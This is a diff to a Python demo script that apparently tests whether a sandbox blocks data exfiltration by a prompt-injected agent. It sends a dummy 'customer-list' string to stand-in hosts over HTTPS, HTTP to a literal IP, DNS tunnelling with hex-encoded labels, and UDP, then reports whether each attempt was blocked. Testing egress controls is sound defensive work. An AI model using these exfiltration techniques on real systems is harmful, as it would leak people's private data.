@@ -18,6 +18,11 @@ import urllib.request
 
 CA = os.environ.get("DEMO_CA", "/input/ca.pem")
 BROKER = os.environ.get("STOCKADE_BROKER", "")
+DENIED_IP = os.environ.get("DEMO_DENIED_IP", "10.250.0.11")
+UDP_ECHO = (
+    os.environ.get("DEMO_UDP_IP", "10.250.0.20"),
+    int(os.environ.get("DEMO_UDP_PORT", "7001")),
+)
 STOLEN = "customer-list:alice,bob,carol"  # what a prompt-injected agent would try to send out
 
 
@@ -120,10 +125,10 @@ def tls_to(ip, sni):
 
 def step_exfiltration():
     by_name = blocked_or_reached(lambda: https_get("https://denied.test/upload?d=" + STOLEN))
-    by_addr = blocked_or_reached(lambda: tls_to("10.250.0.11", "denied.test"))
+    by_addr = blocked_or_reached(lambda: tls_to(DENIED_IP, "denied.test"))
     both = "blocked" if by_name[0] == by_addr[0] == "blocked" else "reached"
     report("exfil_https", both, detail=f"by name: {by_name[1]}; by address: {by_addr[1]}")
-    obs, detail = blocked_or_reached(lambda: http_get("http://10.250.0.11/upload?d=" + STOLEN))
+    obs, detail = blocked_or_reached(lambda: http_get(f"http://{DENIED_IP}/upload?d=" + STOLEN))
     report("exfil_ip_literal", obs, detail=detail)
     label = STOLEN.encode().hex()[:60]
     rcodes = [dns_query(f"{label}.tunnel.test", "A"), dns_query("txt.test", "TXT")]
@@ -132,7 +137,7 @@ def step_exfiltration():
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.settimeout(2)
     try:
-        s.sendto(STOLEN.encode(), ("10.250.0.20", 7001))
+        s.sendto(STOLEN.encode(), UDP_ECHO)
         s.recvfrom(2048)
         report("exfil_udp", "reached", detail="echo received")
     except OSError as e:
